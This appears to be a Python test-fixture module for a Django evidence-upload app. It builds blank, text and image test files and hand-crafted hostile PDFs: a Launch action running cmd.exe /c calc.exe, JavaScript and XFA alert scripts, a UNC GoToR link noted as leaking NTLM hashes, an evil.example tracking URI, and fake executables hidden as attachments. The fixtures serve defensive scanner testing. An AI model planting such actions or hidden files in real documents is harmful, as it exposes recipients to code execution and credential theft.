"""Small files for tests, built in memory: blank and text PDFs, one-colour pictures, ZIP archives, and
hostile PDFs written by hand (attached files, actions, scripts)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject, RectangleObject

PAGE_SIZE = (595, 842)  # A4 in whole points


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_bytes(pages: int = 1, *, password: str | None = None, size: tuple[float, float] = PAGE_SIZE) -> bytes:
    """A PDF of blank pages; with a password, encrypted with it."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=size[0], height=size[1])
    if password is not None:
        writer.encrypt(password)
    return _written(writer)


def text_pdf(*pages: str | Mapping, size: tuple[float, float] = PAGE_SIZE) -> bytes:
    """A PDF with one line of Helvetica text per page, so that a reader can find each page again.

    A page is its text, or a dict: text, and optionally size (else `size`), rotate, cropbox."""
    writer = PdfWriter()
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
    )
    for spec in pages:
        if isinstance(spec, str):
            spec = {"text": spec}
        width, height = spec.get("size", size)
        page = writer.add_blank_page(width, height)
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 14 Tf 72 {height / 2:.0f} Td ({spec['text']}) Tj ET".encode())
        page[NameObject("/Contents")] = writer._add_object(content)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
        if spec.get("rotate"):
            page[NameObject("/Rotate")] = NumberObject(spec["rotate"])
        if spec.get("cropbox"):
            page[NameObject("/CropBox")] = RectangleObject(spec["cropbox"])
    return _written(writer)


def image_bytes(
    kind: str, size: tuple[int, int] = (48, 32), color: str | tuple[int, ...] = (20, 120, 200)
) -> bytes:
    """A one-colour RGB picture saved as `kind` (a Pillow format: "PNG", "JPEG", "GIF", …)."""
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, kind)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    """A deflated ZIP archive holding each name with its bytes, in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- PDFs written by hand: what no PDF library would write, as attackers write it ----------------------

#: Stands for a program hidden in a PDF (the first bytes of a Windows executable).
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00 this stands for run.exe"

JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH_ACTION = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"
#: Opens \\server\share\x.pdf: Windows sends the user's NTLM hash to whoever runs "server".
REMOTE_GOTO_ACTION = b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>"
URI_ACTION = b"<< /S /URI /URI (https://evil.example/track?doc=1) >>"
WEB_LINK_ACTION = b"<< /S /URI /URI (https://www.a2i.gov.bd/) >>"


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


def handmade_pdf(
    *, catalog: bytes = b"", page: bytes = b"", objects: Sequence[bytes] = (), compressed: bool = False
) -> bytes:
    """A one-page PDF written byte by byte: object 1 is the catalog (``catalog`` added to its dictionary),
    2 the page tree, 3 the page (``page`` added), 4 on the ``objects``. The page shows a line of text.

    ``compressed``: every object but the streams goes into one object stream, found through a
    cross-reference stream (PDF 1.5), so none of their names is anywhere in the file's bytes."""
    text = b"BT /F1 14 Tf 72 400 Td (Evidence page) Tj ET"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> " % (len(objects) + 4, len(objects) + 5) + page + b" >>",
        *objects,
        _stream(text),
        font,
    ]
    if not compressed:
        return _classic_pdf(objects)
    return _compressed_pdf(objects)


def _classic_pdf(objects: Sequence[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _compressed_pdf(objects: Sequence[bytes]) -> bytes:
    packed = {n: i for i, n in enumerate(n for n, body in enumerate(objects, 1) if b"\nstream\n" not in body)}
    header, bodies = bytearray(), bytearray()
    for number in packed:
        header += b"%d %d " % (number, len(bodies))
        bodies += objects[number - 1] + b"\n"
    object_stream, xref_stream = len(objects) + 1, len(objects) + 2
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    rows = {0: (0, 0, 65535)}
    for number, body in enumerate(objects, start=1):
        if number in packed:
            rows[number] = (2, object_stream, packed[number])
        else:
            rows[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows[object_stream] = (1, len(out), 0)
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header))
    out += b"%d 0 obj\n%b\nendobj\n" % (object_stream, _stream(zlib.compress(header + bodies), entries))
    rows[xref_stream] = (1, len(out), 0)
    table = b"".join(struct.pack(">BII", *rows[number]) for number in range(xref_stream + 1))
    start = len(out)
    entries = b"/Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode" % (xref_stream + 1)
    out += b"%d 0 obj\n%b\nendobj\n" % (xref_stream, _stream(zlib.compress(table), entries))
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _attached_file(number: int, name: bytes = b"run.exe") -> list[bytes]:
    """Objects ``number`` (a file specification) and ``number + 1`` (the file): the stream has no
    ``/Type /EmbeddedFile``, which readers do not need to show and save it."""
    return [
        b"<< /Type /Filespec /F (%b) /UF (%b) /EF << /F %d 0 R >> >>" % (name, name, number + 1),
        _stream(EXECUTABLE),
    ]


def pdf_with_file_attachment_annotation() -> bytes:
    """A paper clip on the page carrying run.exe (``pdfdetach -list`` shows it)."""
    return handmade_pdf(
        page=b"/Annots [4 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [500 780 520 800] /Name /PushPin "
            b"/Contents (run.exe) /FS 5 0 R >>",
            *_attached_file(5),
        ],
    )


def pdf_with_nested_embedded_file() -> bytes:
    """A file specification with /EF four dictionaries deep in private page data, all direct objects."""
    return handmade_pdf(
        page=b"/PieceInfo << /Scanner << /Private << /Note << /F (run.exe) /EF << /F 4 0 R >> >> >> >> >>",
        objects=[_stream(EXECUTABLE)],
    )


def pdf_with_embedded_files_tree() -> bytes:
    """The document's attachment list (/Names /EmbeddedFiles) with the files in a kid of the tree."""
    return handmade_pdf(
        catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
        objects=[
            b"<< /Kids [5 0 R] >>",
            b"<< /Limits [(run.exe) (run.exe)] /Names [(run.exe) 6 0 R] >>",
            *_attached_file(6),
        ],
    )


def pdf_with_open_action(action: bytes) -> bytes:
    """``action`` runs when the document opens."""
    return handmade_pdf(catalog=b"/OpenAction " + action)


def pdf_with_page_open_action(action: bytes) -> bytes:
    """``action`` runs when the page is shown (the page's additional actions)."""
    return handmade_pdf(page=b"/AA << /O " + action + b" >>")


def pdf_with_link(action: bytes, *, compressed: bool = False) -> bytes:
    """A link on the page that runs ``action`` when clicked."""
    return handmade_pdf(
        page=b"/Annots [4 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 390 250 420] /Border [0 0 0] /A " + action + b" >>"
        ],
        compressed=compressed,
    )


def pdf_with_outline_action(action: bytes) -> bytes:
    """A bookmark whose action is ``action``: the second of two, reached by /Next."""
    return handmade_pdf(
        catalog=b"/Outlines 4 0 R /PageMode /UseOutlines",
        objects=[
            b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
            b"<< /Title (Page one) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>",
            b"<< /Title (Details) /Parent 4 0 R /Prev 5 0 R /A " + action + b" >>",
        ],
    )


def pdf_with_xfa() -> bytes:
    """An XFA form: its scripts are XML inside a stream."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
        b"</xdp:xdp>"
    )
    return handmade_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=[_stream(xfa)])


def pdf_with_action_cycle(action: bytes | None) -> bytes:
    """An opening action whose /Next chain comes back to itself (object 4 → 5 → 4), with ``action``
    in the loop when given; a harmless go-to-page otherwise."""
    second = action[:-2] + b" /Next 4 0 R >>" if action else b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"
    return handmade_pdf(
        catalog=b"/OpenAction 4 0 R", objects=[b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] /Next 5 0 R >>", second]
    )


def pdf_with_ordinary_links() -> bytes:
    """What born-digital letters carry and evidence may keep: links to a web page, an e-mail address and a
    place in the file, a bookmark to the page, and an opening view of the page."""
    return handmade_pdf(
        catalog=b"/OpenAction [3 0 R /Fit] /Outlines 7 0 R",
        page=b"/Annots [4 0 R 5 0 R 6 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 390 250 420] /Border [0 0 0] /A "
            + WEB_LINK_ACTION
            + b" >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 350 250 380] /A << /S /URI /URI (mailto:cio@mofa.gov.bd) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 310 250 340] /Dest [3 0 R /XYZ 0 842 0] >>",
            b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
            b"<< /Title (Evidence page) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        ],
    )


@contextmanager
def demo_rolled_back(folder, django_db_blocker):
    """The demo loaded into the test database for a module- or session-wide fixture, its stored files under
    ``folder``; everything is rolled back when the block ends (the test database is checked by its name
    first: Django's are test_…, a file named test-…, or in memory). Yields the demo's MoFA plan."""
    from django.core.management import call_command
    from django.db import connection, transaction
    from django.test import override_settings

    from indicators.models import ActionPlan

    storage = {
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": folder / "private", "base_url": None},
        },
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
    }
    with (
        django_db_blocker.unblock(),
        override_settings(STORAGES=storage, PRIVATE_FILES_ROOT=folder / "private"),
        transaction.atomic(),
    ):
        name = str(connection.settings_dict["NAME"])
        assert Path(name).name.startswith("test") or "memory" in name, f"not the test database: {name}"
        call_command("load_demo", password="test-pass-123", stdout=io.StringIO())
        yield ActionPlan.objects.get(office__code="mofa", fiscal_year__start_year=2022)
        transaction.set_rollback(True)
